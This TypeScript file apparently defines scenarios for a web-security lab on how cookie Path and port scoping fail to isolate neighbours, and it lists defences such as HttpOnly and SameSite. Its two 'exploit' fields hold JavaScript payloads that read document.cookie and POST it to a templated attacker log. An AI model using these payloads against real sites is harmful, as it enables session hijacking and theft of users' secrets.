import { type AttackOf, notWritten } from './attack.ts';

/** Lab 7: neither a path nor a port keeps a cookie from a neighbour. */
export const boundaries = [
  {
    id: 'path-read',
    lab: 'boundaries',
    title: 'A page under another path reads the cookie',
    story:
      'The vault’s cookie says Path=…/vault, and a neighbour may publish under another path of the same host. The neighbour’s page frames the vault and reads the frame’s document.cookie.',
    goal: 'The attacker’s log holds the vault’s secret.',
    ground: 'neighbour-path',
    aim: 'vault',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    loot: 'vault-secret',
    weakness: notWritten,
    exploit: `<iframe src="{{bank}}/vault/" title="The vault"></iframe>
<script>
  const frame = document.querySelector('iframe');
  frame.addEventListener('load', () => {
    let loot = 'Out of reach.';
    try { loot = frame.contentDocument.cookie; } catch {}
    fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: loot });
  });
</script>`,
    sign: { at: 'log' },
    defences: ['http-only', 'same-site-strict', 'frame-ancestors', 'separate-host'],
    probe: null,
  },
  {
    id: 'port-receive',
    lab: 'boundaries',
    title: 'An app on another port receives the cookie',
    story:
      'Another app listens on another port of the bank’s host. Alice follows a link to it, and her browser sends the bank’s cookie with the request.',
    goal: 'The bank answers the attacker’s client as if it were Alice.',
    ground: 'neighbour-port',
    aim: 'let-in',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    loot: 'session-cookie',
    weakness: notWritten,
    exploit: `<p>A calendar, on another port.</p>
<script>
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: document.cookie });
</script>`,
    sign: { at: 'log' },
    defences: ['http-only', 'secure', 'same-site-strict', 'prefix-host', 'separate-host'],
    probe: null,
  },
] as const satisfies readonly AttackOf<string>[];
